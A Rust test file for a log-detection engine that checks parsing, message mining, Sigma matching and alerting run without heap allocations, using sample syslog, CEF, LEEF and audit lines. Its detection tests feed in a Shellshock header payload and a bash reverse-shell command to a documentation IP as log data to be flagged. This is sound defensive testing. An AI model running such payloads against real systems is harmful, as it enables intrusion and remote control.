//! Parsing, mining known messages and Sigma matching allocate nothing: a counting global
//! allocator watches this thread while every format is parsed and all of its fields and
//! structured-data parameters are read, known messages are mined, and events are matched.

use detector::parse::{Event, FieldIndex, ParseOptions, parse, parse_indexed};

use crate::alloc::allocations_of;

const MESSAGES: [&str; 9] = [
    r#"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"][examplePriority@32473 class="high"] An application event log entry with a somewhat longer text to cross SIMD blocks"#,
    "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
    "<189>123: *Mar  1 00:00:40.123: %SYS-5-CONFIG_I: Configured from console by vty0",
    r#"<14>1 - host app - - - {"version":"1.1","host":"h","short_message":"x \"y\"","level":3,"_o":{"a":[1,2]}}"#,
    "<14>Oct 11 22:14:15 h CEF:0|Security|threatmanager|1.0|100|worm stopped|10|src=10.0.0.1 dst=2.1.2.2 msg=Detected a threat cs1=a\\=b",
    "<14>Oct 11 22:14:15 h LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5^sev=5",
    r#"<14>1 - h app - - - level=info msg="a \"b\" c" n=5"#,
    "type=USER_LOGIN msg=audit(1364481363.243:24287): pid=2222 uid=0 msg='op=login res=failed'",
];

/// Bytes of every field, parameter, body and host of `e`.
fn read_all(m: &str, e: &Event<'_>) -> usize {
    assert_eq!(e.error, None, "{m}");
    let mut seen = e
        .fields()
        .map(|f| f.key.len() + f.value.len())
        .sum::<usize>();
    seen += e
        .sd_params()
        .map(|(id, k, v)| id.len() + k.len() + v.len())
        .sum::<usize>();
    seen + e.body.len() + e.host.map_or(0, <[u8]>::len)
}

/// Every message parsed, and read, with and without a field index (one, reused).
fn parse_everything(index: &mut FieldIndex) -> usize {
    let opts = ParseOptions {
        year: Some(2024),
        ..ParseOptions::default()
    };
    let mut seen = 0;
    for m in MESSAGES {
        let walked = read_all(m, &parse(m.as_bytes(), &opts));
        let indexed = read_all(m, &parse_indexed(m.as_bytes(), &opts, index));
        assert_eq!(walked, indexed, "{m}");
        seen += walked + indexed;
    }
    seen
}

#[test]
fn parsing_every_format_allocates_nothing() {
    // The first call picks the SIMD implementation (reading the environment allocates once).
    let mut index = FieldIndex::default();
    let warm = parse_everything(&mut index);
    let (seen, allocations) = allocations_of(|| parse_everything(&mut index));
    assert_eq!(seen, warm);
    assert!(seen > 1000, "the fields were really read: {seen} bytes");
    assert_eq!(allocations, 0, "allocations while parsing");
}

#[test]
fn mining_known_messages_allocates_nothing() {
    use detector::mining::{Miner, MinerOptions};
    let mut miner = Miner::new(MinerOptions::default());
    let lines = [
        "Invalid user admin from 198.51.100.7",
        "Invalid user oracle from 203.0.113.9",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7",
        "Received disconnect from 203.0.113.9: 11: Bye Bye [preauth]",
    ];
    // The first pass creates the templates and tree paths; the second settles the wildcards
    // (two more users prove the user a variable, and the groups merge).
    for _ in 0..2 {
        for l in lines {
            miner.add(l);
        }
    }
    miner.add("Invalid user test from 198.51.100.7");
    miner.add("Invalid user guest from 198.51.100.7");
    let mut ids = [0u64; 4];
    let ((), allocations) = allocations_of(|| {
        for (id, l) in ids.iter_mut().zip(lines) {
            *id = miner.add(l).id;
        }
    });
    assert_eq!(allocations, 0, "allocations while mining known messages");
    assert_eq!(ids[0], ids[1]);
}

#[test]
fn sigma_matching_allocates_nothing() {
    use detector::rules::{
        load::load_dir,
        sigma::{LogsourceMap, SigmaRule, SigmaScratch, SigmaSet},
    };
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux");
    let mut rules = load_dir(std::path::Path::new(dir), &LogsourceMap::default()).rules;
    // Regexes on the body and on a payload field, through their RegexSets.
    rules.push(
        SigmaRule::from_yaml(
            "re.yml",
            "title: re\nlogsource: {product: linux}\ndetection:\n    a:\n        message|re: 'user (admin|root)'\n    b:\n        uid|re: '^0$'\n    condition: a or b\n",
            &LogsourceMap::default(),
        )
        .unwrap(),
    );
    let set = SigmaSet::new(rules);
    let lines: Vec<String> = MESSAGES
        .iter()
        .map(|m| m.to_string())
        .chain([
            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".to_string(),
            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1".into(),
            "<38>Nov 22 10:00:00 h sshd[1]: Invalid user admin from 198.51.100.7".into(),
        ])
        .collect();
    let events: Vec<_> = lines
        .iter()
        .map(|l| parse(l.as_bytes(), &ParseOptions::default()))
        .collect();
    let mut scratch = SigmaScratch::default();
    let pass = |scratch: &mut SigmaScratch| {
        let mut hits = 0;
        for e in &events {
            set.for_each_match(e, scratch, |_| hits += 1);
        }
        hits
    };
    // The first pass sizes the scratch and lets the regexes' lazy DFAs build their states.
    let warm = pass(&mut scratch);
    let (hits, allocations) = allocations_of(|| pass(&mut scratch));
    assert_eq!(hits, warm);
    assert!(
        hits >= 4,
        "the shellshock, reverse shell and both regex lines: {hits}"
    );
    assert_eq!(allocations, 0, "allocations while matching");
}

#[test]
fn the_engine_allocates_nothing_per_batch_new_keys_and_alerts_included() {
    use detector::{
        engine::{Alerts, Blueprint, Clock, EngineOptions, Input, LearningOptions, RuleRef, Rules},
        rules::{
            correlation::CorrelationRule,
            load::load_dir,
            sigma::{LogsourceMap, SigmaRule},
            silence, threshold,
        },
    };
    let logsources = LogsourceMap::default();
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux");
    let mut sigma = load_dir(std::path::Path::new(dir), &logsources).rules;
    sigma.push(
        SigmaRule::from_yaml(
            "f.yml",
            "title: Failed password\nname: failed\nlogsource: {product: linux}\n\
             detection: {keywords: ['Failed password'], condition: keywords}\n",
            &logsources,
        )
        .unwrap(),
    );
    let correlation = CorrelationRule::from_value(
        "c.yml",
        &serde_yaml_ng::from_str(
            "title: Many failures per host\ncorrelation:\n  type: event_count\n  rules: [failed]\n  \
             group-by: [host]\n  timespan: 10m\n  condition: {gte: 4}\n",
        )
        .unwrap(),
        &sigma,
    )
    .unwrap();
    let native = "[[threshold]]\nid = \"b\"\ntitle = \"b\"\ncontains = [\"Failed password\"]\n\
                  group_by = { regex = 'from ([0-9.]+) port' }\ncount = 4\nwindow = \"60s\"\n\n\
                  [[silence]]\nid = \"q\"\ntitle = \"q\"\ngroup_by = \"host\"\nfactor = 1\n\
                  min_events = 1\nmin_quiet = \"1s\"\n";
    let rules = Rules {
        correlations: vec![correlation],
        thresholds: threshold::from_toml("n.toml", native, &logsources).unwrap(),
        silences: silence::from_toml("n.toml", native).unwrap(),
        sigma,
    };
    let mut engine = Blueprint::new(
        &rules,
        EngineOptions {
            learning: Some(LearningOptions {
                warmup_messages: 0,
                ..LearningOptions::default()
            }),
            clock: Clock::Arrival,
            budget_bytes: 8 << 20,
        },
    )
    .engine();
    // Batch k: sixteen hosts never seen before, each failing four times from an address never
    // seen before (a threshold and a correlation alert per host), a kind of message never seen,
    // and the shellshock and reverse-shell lines.
    let batch = |k: usize| -> Vec<String> {
        let mut lines = Vec::new();
        for h in 0..16 {
            for port in 0..4 {
                lines.push(format!(
                    "<38>Nov 22 10:00:00 host{k}x{h} sshd[1]: Failed password for root from \
                     10.{k}.{h}.1 port {port} ssh2"
                ));
            }
        }
        let word = |i: usize| -> String {
            (0..6)
                .map(|j| char::from(b'a' + ((k * 7 + i * 3 + j * 5) % 26) as u8))
                .collect()
        };
        lines.push(format!(
            "<14>1 - web{k} app - - - {} {} {}",
            word(1),
            word(2),
            word(3)
        ));
        lines.push("<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".into());
        lines.push(
            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1".into(),
        );
        lines
    };
    let lines: Vec<Vec<String>> = (0..6).map(batch).collect();
    let batches: Vec<Vec<Input<'_>>> = lines
        .iter()
        .enumerate()
        .map(|(k, ls)| {
            ls.iter()
                .enumerate()
                .map(|(i, l)| Input {
                    event: parse(l.as_bytes(), &ParseOptions::default()),
                    source: Some(((k as u128) << 32) | i as u128),
                    arrival_ns: k as u64 * 2_000_000_000,
                })
                .collect()
        })
        .collect();
    let mut alerts = Alerts::new(4096);
    // Which kinds of rule raised alerts (a fixed array: counting must not allocate itself).
    let kind = |r: RuleRef| match r {
        RuleRef::Sigma(_) => 0,
        RuleRef::Threshold(_) => 1,
        RuleRef::Correlation(_) => 2,
        RuleRef::Silence(_) => 3,
        RuleRef::NewTemplate(_) => 4,
        RuleRef::RateSpike(_) => 5,
    };
    let mut kinds = [false; 6];
    let run = |engine: &mut detector::engine::Engine, k: usize, alerts: &mut Alerts| {
        engine.run(&batches[k], alerts);
        engine.tick(k as u64 * 2_000_000_000 + 1_000_000_000, alerts);
    };
    // The first batch lets the regexes' lazy DFAs build the states this text needs.
    run(&mut engine, 0, &mut alerts);
    alerts.clear();
    let ((), allocations) = allocations_of(|| {
        for k in 1..6 {
            run(&mut engine, k, &mut alerts);
            for a in alerts.as_slice() {
                kinds[kind(a.rule)] = true;
            }
            alerts.clear();
        }
    });
    assert_eq!(allocations, 0, "allocations while detecting");
    for rule in [
        RuleRef::Sigma(0),
        RuleRef::Threshold(0),
        RuleRef::Correlation(0),
        RuleRef::NewTemplate(0),
        RuleRef::Silence(0),
    ] {
        assert!(kinds[kind(rule)], "{rule:?} alerts were raised");
    }
    assert_eq!(alerts.overflowed(), 0);
}
